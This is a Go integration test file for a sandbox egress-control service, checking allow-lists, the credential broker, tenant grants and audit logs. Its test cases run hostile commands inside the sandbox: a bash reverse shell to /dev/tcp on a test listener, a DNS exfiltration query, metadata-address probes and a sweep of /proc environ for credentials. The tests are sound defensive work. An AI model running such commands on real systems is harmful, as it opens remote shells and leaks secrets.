package egress_test

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/airlockhq/airlock"
	"github.com/airlockhq/airlock/client"
	"github.com/airlockhq/airlock/internal/testenv"
	"github.com/airlockhq/airlock/internal/testenv/testreq"
	"github.com/airlockhq/airlock/internal/testnet"
	"github.com/airlockhq/airlock/internal/teststack"
	"github.com/airlockhq/airlock/service/broker"
	"github.com/airlockhq/airlock/service/egress"
	"github.com/airlockhq/airlock/service/quota"
	"github.com/airlockhq/airlock/service/session"
	"github.com/airlockhq/airlock/store/sqlite"
)

// probe is a small client the tests run in the sandbox. Each command
// prints one line: OK and what it got, or ERR and the exception.
const probe = `
import socket, ssl, sys, urllib.request, urllib.error

def out(s):
    print(s, flush=True)

def run(cmd, args):
    if cmd == "get":
        ctx = ssl.create_default_context(cafile="/workspace/ca.pem")
        req = urllib.request.Request(args[0], method=args[1] if len(args) > 1 else "GET")
        try:
            with urllib.request.urlopen(req, timeout=8, context=ctx) as r:
                return "OK %d %s" % (r.status, r.read().decode())
        except urllib.error.HTTPError as e:
            return "HTTP %d %s" % (e.code, e.read().decode())
    if cmd == "resolve":
        return "OK " + ",".join(sorted({a[4][0] for a in socket.getaddrinfo(args[0], 80, socket.AF_INET)}))
    if cmd == "tcp":
        s = socket.create_connection((args[0], int(args[1])), timeout=4)
        s.settimeout(4)
        s.sendall(b"hello\n")
        data = s.recv(100)
        return "OK %r" % data if data else "ERR closed"
    if cmd == "tls":
        ctx = ssl.create_default_context(cafile="/workspace/ca.pem")
        s = socket.create_connection((args[0], int(args[1])), timeout=4)
        t = ctx.wrap_socket(s, server_hostname=args[2])
        return "OK " + t.version()
    if cmd == "udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        s.sendto(b"x", (args[0], int(args[1])))
        return "OK %r" % (s.recvfrom(100),)
    if cmd == "stream":
        n = 0
        with urllib.request.urlopen(args[0], timeout=30) as r:
            out("OK open")
            for line in r:
                n += 1
        return "OK eof after %d lines" % n
    return "ERR unknown command"

try:
    out(run(sys.argv[1], sys.argv[2:]))
except Exception as e:
    out("ERR %s: %s" % (type(e).__name__, e))
`

// world is a real stack: gVisor sandboxes of sessions with networks from
// the egress service, in front of a test internet, with a credential
// broker and the HTTP API.
type world struct {
	*fixture
	mgr    *session.Manager
	api    string // the REST API's base URL
	key    string
	cred   string
	ticket struct {
		mu   sync.Mutex
		auth []string
	}
	api1, other, listener netip.Addr
	hits                  atomic.Int64 // connections the reverse-shell listener got
	ticks                 atomic.Int64 // lines api1's /stream has sent
}

func newWorld(t testing.TB) *world { return newWorldWith(t, nil) }

// newWorldWith makes a world whose tenants' quotas, egress included, are
// kept by ledger (nil: none).
func newWorldWith(t testing.TB, ledger *quota.Ledger) *world {
	testenv.RequireRoot(t)
	testenv.RequireRunsc(t)
	testenv.Images(t)
	testenv.Image(t, "base")
	backend := testenv.GVisor(t) // first: its clean-host check runs last
	w := &world{}
	var b [16]byte
	rand.Read(b[:])
	w.cred = "cred-" + hex.EncodeToString(b[:])
	credFile := filepath.Join(t.TempDir(), "tickets.token")
	if err := os.WriteFile(credFile, []byte(w.cred), 0o600); err != nil {
		t.Fatal(err)
	}
	var meter egress.TenantMeter
	if ledger != nil {
		meter = ledger
	}
	w.fixture = newFixture(t, fixtureOpts{tenants: meter, broker: func(rec func(*airlock.EgressEvent), inet *testnet.Internet, store *sqlite.DB) airlock.Broker {
		res, err := newResolver(inet)
		if err != nil {
			t.Fatal(err)
		}
		bk, err := broker.New(broker.Config{
			Scopes: []broker.Scope{{
				Name: "tickets.read", Upstream: "https://tickets.test/api", Methods: []string{"GET"},
				Paths: []string{"/v1/tickets/*"}, Credential: broker.Credential{File: credFile},
			}, {
				Name: "tickets.write", Upstream: "https://tickets.test/api", Methods: []string{"POST"},
				Paths: []string{"/v1/tickets"}, Credential: broker.Credential{File: credFile},
			}},
			Record:     rec,
			Grants:     store,
			LookupHost: res.LookupHost,
			RootCAs:    inet.CertPool(),
		})
		if err != nil {
			t.Fatal(err)
		}
		return bk
	}})
	inet := w.inet
	// The world's tenant holds tickets.read (tickets.write is no one's).
	if err := w.store.SetBrokerGrants(context.Background(), w.tenant.ID, []string{"tickets.read"}); err != nil {
		t.Fatal(err)
	}

	// The internet: a web server, another one, a ticket system that
	// checks the credential, names that resolve where they must not, and
	// a listener for a reverse shell.
	w.api1 = inet.ServeHTTP(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/big" {
			io.WriteString(rw, strings.Repeat("x", 2<<20))
			return
		}
		if r.URL.Path == "/stream" {
			for i := 0; i < 300; i++ {
				if _, err := fmt.Fprintf(rw, "tick %d\n", i); err != nil {
					return
				}
				rw.(http.Flusher).Flush()
				w.ticks.Add(1)
				// A slow stream, on purpose: it must still be flowing
				// when the policy change cuts it.
				time.Sleep(100 * time.Millisecond)
			}
			return
		}
		hello(rw, r)
	}), "api.test")
	w.other = inet.ServeHTTP(http.HandlerFunc(hello), "other.test")
	tickets := inet.ServeHTTP(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		w.ticket.mu.Lock()
		w.ticket.auth = append(w.ticket.auth, r.Header.Get("Authorization"))
		w.ticket.mu.Unlock()
		if r.Header.Get("Authorization") != "Bearer "+w.cred {
			http.Error(rw, "no", http.StatusUnauthorized)
			return
		}
		rw.Header().Set("Set-Cookie", "sid="+w.cred)
		fmt.Fprintf(rw, `{"ticket": %q, "seen_auth": %q}`, r.URL.Path, r.Header.Get("Authorization"))
	}), "tickets.test")
	inet.SetName("api.test", w.api1)
	inet.SetName("other.test", w.other)
	inet.SetName("tickets.test", tickets)
	inet.SetName("meta.test", netip.MustParseAddr("169.254.169.254"))
	inet.SetName("private.test", netip.MustParseAddr("10.9.8.7"))
	w.listener = inet.Addr()
	go acceptCount(inet.Listen("tcp4", netip.AddrPortFrom(w.listener, 4444)), &w.hits)

	store := w.store
	st := teststack.New(t, teststack.Options{
		Backend: backend, Store: store, Egress: w.svc, EgressLog: store, Ledger: ledger,
		Session: func(c *session.Config) {
			c.Sizes = map[airlock.SessionSize]session.Size{
				airlock.SizeSmall: {CPUs: 1, MemoryBytes: 512 << 20, DiskBytes: 256 << 20, Pids: 256},
			}
			c.DefaultImage = "base"
		},
	})
	w.mgr, w.api = st.Sessions, st.URL
	secret, key := airlock.NewAPIKey(w.tenant.ID, "", time.Now())
	if err := store.CreateAPIKey(context.Background(), key); err != nil {
		t.Fatal(err)
	}
	w.key = secret
	return w
}

// watcher signals when an exec's output first contains want.
type watcher struct {
	mu   sync.Mutex
	out  strings.Builder
	want string
	seen chan struct{}
	once sync.Once
}

func (w *watcher) Started(string, int) {}
func (w *watcher) Stderr([]byte)       {}
func (w *watcher) Stdout(p []byte) {
	w.mu.Lock()
	w.out.Write(p)
	has := strings.Contains(w.out.String(), w.want)
	w.mu.Unlock()
	if has {
		w.once.Do(func() { close(w.seen) })
	}
}

// session makes a session over the API and gives it the probe and the
// internet's CA.
func (w *world) session(t testing.TB, network *airlock.NetworkPolicy, scopes ...string) string {
	t.Helper()
	body, _ := json.Marshal(airlock.CreateSessionRequest{Image: "base", Network: network, BrokerScopes: scopes})
	code, resp := w.call(t, "POST", "/v1/sessions", string(body))
	if code != 201 {
		t.Fatalf("create session: %d %s", code, resp)
	}
	var s airlock.Session
	json.Unmarshal([]byte(resp), &s)
	ctx := context.Background()
	for name, content := range map[string]string{"probe.py": probe, "ca.pem": string(w.inet.CAPEM)} {
		if _, err := w.mgr.PutFile(ctx, w.tenant, s.ID, name, int64(len(content)), strings.NewReader(content)); err != nil {
			t.Fatal(err)
		}
	}
	return s.ID
}

func (w *world) call(t testing.TB, method, path, body string) (int, string) {
	t.Helper()
	req, _ := http.NewRequest(method, w.api+path, strings.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+w.key)
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// sh runs a shell line in a session.
func (w *world) sh(t testing.TB, id, line string) *airlock.Execution {
	t.Helper()
	e, err := w.mgr.Exec(context.Background(), w.tenant, id, airlock.SessionExecRequest{Shell: line, TimeoutSec: 60}, nil)
	if err != nil {
		t.Fatalf("exec %q: %v", line, err)
	}
	return e
}

// probe runs the probe in a session and returns its line.
func (w *world) probe(t testing.TB, id string, args ...string) string {
	t.Helper()
	e := w.sh(t, id, "python3 /workspace/probe.py "+strings.Join(args, " "))
	return strings.TrimSpace(e.Stdout + e.Stderr)
}

// egressLog reads the session's log through the API, oldest first.
func (w *world) egressLog(t *testing.T, id, query string) []*airlock.EgressEvent {
	t.Helper()
	var all []*airlock.EgressEvent
	before := ""
	for {
		q := "?limit=200" + query
		if before != "" {
			q += "&before=" + before
		}
		code, body := w.call(t, "GET", "/v1/sessions/"+id+"/egress"+q, "")
		if code != 200 {
			t.Fatalf("egress log: %d %s", code, body)
		}
		var page airlock.EgressPage
		if err := json.Unmarshal([]byte(body), &page); err != nil {
			t.Fatal(err)
		}
		all = append(all, page.Events...)
		if page.NextCursor == "" {
			break
		}
		before = page.NextCursor
	}
	slices.Reverse(all)
	return all
}

func wantOK(t *testing.T, what, got, prefix string) {
	t.Helper()
	if !strings.HasPrefix(got, prefix) {
		t.Errorf("%s: %q, want %q...", what, got, prefix)
	}
}

func wantErr(t *testing.T, what, got string) {
	t.Helper()
	if !strings.HasPrefix(got, "ERR") {
		t.Errorf("%s: %q, want an error", what, got)
	}
}

// The checks, in real gVisor sandboxes.
func TestSandboxEgress(t *testing.T) {
	w := newWorld(t)
	a := w.session(t, &airlock.NetworkPolicy{Mode: airlock.NetworkAllowList, Allow: []string{"api.test", "meta.test", "private.test"}}, "tickets.read")

	t.Run("allowed name over HTTPS and HTTP", func(t *testing.T) {
		wantOK(t, "https", w.probe(t, a, "get", "https://api.test/hello"), "OK 200 hello from api.test/hello")
		wantOK(t, "http", w.probe(t, a, "get", "http://api.test/plain"), "OK 200 hello from api.test/plain")
		if e := w.sh(t, a, "python3 /workspace/probe.py get https://api.test/"); !e.HadNetworkAttempt {
			t.Error("had_network_attempt not set on an exec that connected")
		}
		if e := w.sh(t, a, "echo quiet"); e.HadNetworkAttempt {
			t.Error("had_network_attempt set on an exec that did nothing")
		}
	})
	t.Run("name not in the list", func(t *testing.T) {
		wantErr(t, "resolve other.test", w.probe(t, a, "resolve", "other.test"))
		wantErr(t, "https://other.test", w.probe(t, a, "get", "https://other.test/"))
		// Its address and its SNI, no DNS needed.
		wantErr(t, "tls to other's address", w.probe(t, a, "tls", w.other.String(), "443", "other.test"))
		if slices.Contains(w.inet.Queries(), "other.test") {
			t.Error("other.test was looked up upstream")
		}
	})
	t.Run("listed server by raw IP", func(t *testing.T) {
		wantErr(t, "https by IP", w.probe(t, a, "get", "https://"+w.api1.String()+"/"))
		wantErr(t, "http by IP", w.probe(t, a, "get", "http://"+w.api1.String()+"/"))
	})
	t.Run("listed name resolving to a metadata or private address", func(t *testing.T) {
		wantErr(t, "resolve meta.test", w.probe(t, a, "resolve", "meta.test"))
		wantErr(t, "http://meta.test", w.probe(t, a, "get", "http://meta.test/latest/meta-data/"))
		wantErr(t, "http://private.test", w.probe(t, a, "get", "http://private.test/"))
	})
	t.Run("host loopback services", func(t *testing.T) {
		var hits atomic.Int64
		ln, err := net.Listen("tcp4", "0.0.0.0:0") // on the host: loopback and every address
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		go acceptCount(ln, &hits)
		port := fmt.Sprint(ln.Addr().(*net.TCPAddr).Port)
		gw := strings.TrimSpace(w.sh(t, a, "awk '/^nameserver/ {print $2}' /etc/resolv.conf").Stdout)
		wantErr(t, "127.0.0.1", w.probe(t, a, "tcp", "127.0.0.1", port))
		wantErr(t, "the host's end of the link", w.probe(t, a, "tcp", gw, port))
		wantErr(t, "UDP to the host", w.probe(t, a, "udp", gw, port))
		if hits.Load() != 0 {
			t.Errorf("the host service got %d connections", hits.Load())
		}
	})
	t.Run("another sandbox", func(t *testing.T) {
		b := w.session(t, &airlock.NetworkPolicy{Mode: airlock.NetworkAllowList})
		gw := netip.MustParseAddr(strings.TrimSpace(w.sh(t, b, "awk '/^nameserver/ {print $2}' /etc/resolv.conf").Stdout))
		bIP := gw.Next().String()
		done := make(chan string, 1)
		listening := &watcher{want: "listening", seen: make(chan struct{})}
		go func() {
			e, err := w.mgr.Exec(context.Background(), w.tenant, b, airlock.SessionExecRequest{Cmd: []string{"python3", "-c",
				"import socket\ns=socket.socket()\ns.bind(('0.0.0.0',8000))\ns.listen()\ns.settimeout(7)\nprint('listening', flush=True)\nn=0\ntry:\n  while True:\n    s.accept(); n+=1\nexcept Exception:\n  pass\nprint('hits', n)"},
				TimeoutSec: 30}, listening)
			if err != nil {
				done <- err.Error()
				return
			}
			done <- strings.TrimSpace(strings.TrimPrefix(e.Stdout, "listening\n"))
		}()
		select {
		case <-listening.seen:
		case got := <-done:
			t.Fatalf("sandbox b's listener did not start: %q", got)
		case <-time.After(20 * time.Second):
			t.Fatal("sandbox b's listener did not start in 20 s")
		}
		wantErr(t, "tcp to sandbox b", w.probe(t, a, "tcp", bIP, "8000"))
		wantErr(t, "udp to sandbox b", w.probe(t, a, "udp", bIP, "8000"))
		if got := <-done; got != "hits 0" {
			t.Errorf("sandbox b's listener: %q, want hits 0", got)
		}
		evs := w.egressLog(t, a, "&kind=connection")
		if len(find(evs, func(e *airlock.EgressEvent) bool {
			return e.Dialled == net.JoinHostPort(bIP, "8000") && e.Verdict == airlock.VerdictDenied
		})) == 0 {
			t.Errorf("the attempt on sandbox b is not logged: %s", dump(evs))
		}
	})
	t.Run("metadata address", func(t *testing.T) {
		e := w.sh(t, a, "python3 /workspace/probe.py tcp 169.254.169.254 80; python3 /workspace/probe.py udp 169.254.169.254 53")
		for _, line := range strings.Split(strings.TrimSpace(e.Stdout), "\n") {
			wantErr(t, "169.254.169.254", line)
		}
		if !e.HadNetworkAttempt {
			t.Error("had_network_attempt not set")
		}
		evs := w.egressLog(t, a, "&kind=drops")
		if len(find(evs, func(e *airlock.EgressEvent) bool { return slices.Contains(e.Flags, "metadata") })) == 0 {
			t.Errorf("no drop of metadata packets counted: %s", dump(evs))
		}
	})
	t.Run("reverse shell", func(t *testing.T) {
		e := w.sh(t, a, fmt.Sprintf("timeout 10 bash -c 'bash -i >& /dev/tcp/%s/4444 0>&1'; echo exit=$?", w.listener))
		if w.hits.Load() != 0 {
			t.Errorf("the listener got %d connections", w.hits.Load())
		}
		if strings.Contains(e.Stdout, "exit=124") {
			t.Errorf("the shell stayed connected until its timeout: %q %q", e.Stdout, e.Stderr)
		}
		evs := w.egressLog(t, a, "&kind=connection")
		if len(find(evs, func(e *airlock.EgressEvent) bool {
			return e.Dialled == netip.AddrPortFrom(w.listener, 4444).String() && e.Verdict == airlock.VerdictDenied
		})) == 0 {
			t.Errorf("the reverse shell is not logged: %s", dump(evs))
		}
	})
	t.Run("DNS exfiltration", func(t *testing.T) {
		label := "aGVyZSBpcyB0aGUgc2VjcmV0IGRhdGEgb2YgdGhlIHdvcmtzcGFjZSAwMDE"
		name := strings.ToLower(label) + ".q7x2.exfil.test"
		got := w.probe(t, a, "resolve", name)
		if !strings.Contains(got, "Name or service not known") && !strings.Contains(got, "not known") {
			t.Errorf("resolve %s: %q, want a name-not-known error (NXDOMAIN)", name, got)
		}
		for _, q := range w.inet.Queries() {
			if strings.Contains(q, "exfil") {
				t.Errorf("%q was forwarded upstream", q)
			}
		}
		evs := w.egressLog(t, a, "&kind=dns&verdict=denied")
		if len(find(evs, func(e *airlock.EgressEvent) bool {
			return e.Name == name && slices.Contains(e.Flags, "long-label") && slices.Contains(e.Flags, "high-entropy")
		})) == 0 {
			t.Errorf("the query is not logged and flagged: %s", dump(evs))
		}
	})
	t.Run("broker", func(t *testing.T) {
		got := w.probe(t, a, "get", "http://broker.airlock.internal/tickets.read/v1/tickets/42")
		wantOK(t, "in scope", got, `OK 200 {"ticket": "/api/v1/tickets/42"`)
		w.ticket.mu.Lock()
		seen := slices.Contains(w.ticket.auth, "Bearer "+w.cred)
		w.ticket.mu.Unlock()
		if !seen {
			t.Error("the upstream never saw the credential")
		}
		if strings.Contains(got, w.cred) {
			t.Errorf("the credential came back in the body: %q", got)
		}
		// Environment, files and what came back, searched from the host.
		search := w.sh(t, a, "env; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < $f; done; "+
			"find / -xdev \\( -path /proc -o -path /sys \\) -prune -o -type f -newer /workspace/probe.py -print 2>/dev/null | head -1000; "+
			"find /workspace /tmp /dev/shm /etc/resolv.conf -type f -exec cat {} + 2>/dev/null; "+
			"python3 /workspace/probe.py get http://broker.airlock.internal/tickets.read/v1/tickets/7")
		if strings.Contains(search.Stdout+search.Stderr, w.cred) {
			t.Error("the credential is in the sandbox")
		}
		if !strings.Contains(search.Stdout, "tickets/7") {
			t.Errorf("the search did not run: %q", search.Stdout)
		}
		for _, tt := range []struct{ url, method, reason string }{
			{"http://broker.airlock.internal/tickets.read/v1/users/1", "GET", "path-not-allowed"},
			{"http://broker.airlock.internal/tickets.read/v1/tickets/42", "DELETE", "method-not-allowed"},
			{"http://broker.airlock.internal/tickets.write/v1/tickets", "POST", "scope-not-held"},
		} {
			got := w.probe(t, a, "get", tt.url, tt.method)
			wantOK(t, tt.method+" "+tt.url, got, "HTTP 403")
			if !strings.Contains(got, tt.reason) {
				t.Errorf("%s: %q does not say %s", tt.url, got, tt.reason)
			}
		}
		evs := w.egressLog(t, a, "&kind=broker")
		if n := len(find(evs, func(e *airlock.EgressEvent) bool { return e.Verdict == airlock.VerdictDenied })); n < 3 {
			t.Errorf("%d denied broker calls logged, want 3: %s", n, dump(evs))
		}
		if n := len(find(evs, func(e *airlock.EgressEvent) bool { return e.Verdict == airlock.VerdictAllowed })); n < 2 {
			t.Errorf("%d allowed broker calls logged, want 2", n)
		}
		// A session without the scope cannot even resolve the broker.
		c := w.session(t, &airlock.NetworkPolicy{Mode: airlock.NetworkAllowList, Allow: []string{"api.test"}})
		wantErr(t, "broker without scopes", w.probe(t, c, "get", "http://broker.airlock.internal/tickets.read/v1/tickets/42"))
	})
	t.Run("grants", func(t *testing.T) {
		ctx := context.Background()
		url := "http://broker.airlock.internal/tickets.read/v1/tickets/42"
		// Another tenant cannot name acme's scope: refused at admission.
		globex := &airlock.Tenant{Name: "globex"}
		if err := w.store.CreateTenant(ctx, globex); err != nil {
			t.Fatal(err)
		}
		gsecret, gkey := airlock.NewAPIKey(globex.ID, "", time.Now())
		if err := w.store.CreateAPIKey(ctx, gkey); err != nil {
			t.Fatal(err)
		}
		asGlobex := func(body string) (int, string) {
			req, _ := http.NewRequest("POST", w.api+"/v1/sessions", strings.NewReader(body))
			req.Header.Set("Authorization", "Bearer "+gsecret)
			req.Header.Set("Content-Type", "application/json")
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			b, _ := io.ReadAll(resp.Body)
			return resp.StatusCode, string(b)
		}
		code, body := asGlobex(`{"image":"base","broker_scopes":["tickets.read"]}`)
		if code != 403 || !strings.Contains(body, "broker-scope-not-granted") {
			t.Errorf("globex's session naming tickets.read: %d %s, want 403 broker-scope-not-granted", code, body)
		}
		// Granted tickets.write, globex's sandbox crafts a call to
		// tickets.read: refused by the broker.
		if err := w.store.SetBrokerGrants(ctx, globex.ID, []string{"tickets.write"}); err != nil {
			t.Fatal(err)
		}
		code, body = asGlobex(`{"image":"base","broker_scopes":["tickets.write"]}`)
		if code != 201 {
			t.Fatalf("globex's session with its own scope: %d %s", code, body)
		}
		var gs airlock.Session
		json.Unmarshal([]byte(body), &gs)
		for name, content := range map[string]string{"probe.py": probe, "ca.pem": string(w.inet.CAPEM)} {
			if _, err := w.mgr.PutFile(ctx, globex, gs.ID, name, int64(len(content)), strings.NewReader(content)); err != nil {
				t.Fatal(err)
			}
		}
		e, err := w.mgr.Exec(ctx, globex, gs.ID, airlock.SessionExecRequest{Shell: "python3 /workspace/probe.py get " + url, TimeoutSec: 60}, nil)
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.TrimSpace(e.Stdout + e.Stderr); !strings.HasPrefix(got, "HTTP 403") || !strings.Contains(got, "scope-not-held") || strings.Contains(got, w.cred) {
			t.Errorf("globex's crafted call to acme's scope: %q, want HTTP 403", got)
		}
		// Acme's grant taken back: its live session's next call is
		// refused at once; given again, it works again.
		wantOK(t, "granted", w.probe(t, a, "get", url), "OK 200")
		if err := w.store.SetBrokerGrants(ctx, w.tenant.ID, nil); err != nil {
			t.Fatal(err)
		}
		got := w.probe(t, a, "get", url)
		if !strings.HasPrefix(got, "HTTP 403") || !strings.Contains(got, "broker-scope-not-granted") {
			t.Errorf("call after the grant was taken back: %q, want HTTP 403 broker-scope-not-granted", got)
		}
		if err := w.store.SetBrokerGrants(ctx, w.tenant.ID, []string{"tickets.read"}); err != nil {
			t.Fatal(err)
		}
		wantOK(t, "granted again", w.probe(t, a, "get", url), "OK 200")
	})
	t.Run("tightening cuts a connection", func(t *testing.T) {
		done := make(chan string, 1)
		obs := &watcher{want: "OK open", seen: make(chan struct{})}
		go func() {
			e, err := w.mgr.Exec(context.Background(), w.tenant, a, airlock.SessionExecRequest{Cmd: []string{"python3", "/workspace/probe.py", "stream", "http://api.test/stream"}, TimeoutSec: 60}, obs)
			if err != nil {
				done <- err.Error()
				return
			}
			done <- e.Stdout
		}()
		select {
		case <-obs.seen: // the stream is open and flowing
		case got := <-done:
			t.Fatalf("the stream did not open: %q", got)
		case <-time.After(20 * time.Second):
			t.Fatal("the stream did not open in 20 s")
		}
		from := w.ticks.Load()
		testreq.Eventually(t, 10*time.Second, "the stream to flow (api.test to send 3 more lines)", func() bool { return w.ticks.Load() >= from+3 })
		started := time.Now()
		code, body := w.call(t, "PUT", "/v1/sessions/"+a+"/network", `{"mode": "allow_list", "allow": ["other.test"]}`)
		if code != 200 || !strings.Contains(body, `"allow":["other.test"]`) {
			t.Fatalf("PUT network: %d %s", code, body)
		}
		select {
		case got := <-done:
			if !strings.Contains(got, "OK open") || strings.Contains(got, "eof after 300") {
				t.Errorf("stream: %q", got)
			}
			if time.Since(started) > 10*time.Second {
				t.Errorf("the stream ended only %s after the policy changed", time.Since(started))
			}
		case <-time.After(25 * time.Second):
			t.Fatal("the stream was not cut")
		}
		wantErr(t, "new connection to api.test", w.probe(t, a, "get", "http://api.test/"))
		evs := w.egressLog(t, a, "&kind=connection&verdict=closed")
		if len(find(evs, func(e *airlock.EgressEvent) bool { return e.Name == "api.test" && e.Reason == "policy-changed" })) != 1 {
			t.Errorf("the cut is not logged: %s", dump(evs))
		}
	})
	t.Run("audit log pages", func(t *testing.T) {
		code, body := w.call(t, "GET", "/v1/sessions/"+a+"/egress?limit=2", "")
		var page airlock.EgressPage
		json.Unmarshal([]byte(body), &page)
		if code != 200 || len(page.Events) != 2 || page.NextCursor == "" || page.Events[0].Seq <= page.Events[1].Seq {
			t.Errorf("first page: %d %s", code, body)
		}
		if code, _ := w.call(t, "GET", "/v1/sessions/nope/egress", ""); code != 404 {
			t.Errorf("unknown session: %d", code)
		}
		// The typed client pages the same way.
		c, err := client.New(client.Config{BaseURL: w.api, APIKey: w.key})
		if err != nil {
			t.Fatal(err)
		}
		next, err := c.SessionEgress(context.Background(), a, airlock.EgressFilter{Limit: 2, Before: page.Events[1].Seq, Kind: airlock.EgressConnection})
		if err != nil || len(next.Events) == 0 || next.Events[0].Seq >= page.Events[1].Seq || next.Events[0].Kind != airlock.EgressConnection {
			t.Errorf("client page: %+v %v", next, err)
		}
		if _, err := c.SetSessionNetwork(context.Background(), a, airlock.NetworkPolicy{Mode: airlock.NetworkAllowList, Allow: []string{"10.0.0.1"}}); airlock.ErrorCode(err) != airlock.EINVALID {
			t.Errorf("an address in the list: %v", err)
		}
	})
}

// A session without a network has none: the metadata address (and
// everything else) is unreachable, and nothing leaves the sandbox at all:
// a counter on the host's own hooks sees no packet to it.
func TestSandboxWithoutNetwork(t *testing.T) {
	w := newWorld(t)
	ctr := hostMetadataCounter(t)
	id := w.session(t, &airlock.NetworkPolicy{Mode: airlock.NetworkNone})
	e := w.sh(t, id, "python3 /workspace/probe.py tcp 169.254.169.254 80; python3 /workspace/probe.py get http://api.test/; "+
		"python3 -c 'import socket; print(sorted(n for i, n in socket.if_nameindex()))'")
	lines := strings.Split(strings.TrimSpace(e.Stdout), "\n")
	if len(lines) != 3 || !strings.HasPrefix(lines[0], "ERR") || !strings.HasPrefix(lines[1], "ERR") || lines[2] != "['lo']" {
		t.Errorf("a session without a network: %q", e.Stdout)
	}
	if n := ctr(); n != 0 {
		t.Errorf("%d packets to 169.254.169.254 seen on the host", n)
	}
	code, body := w.call(t, "PUT", "/v1/sessions/"+id+"/network", `{"mode": "allow_list", "allow": ["api.test"]}`)
	if code != 409 || !strings.Contains(body, "network-fixed") {
		t.Errorf("PUT network on a session without one: %d %s", code, body)
	}
}
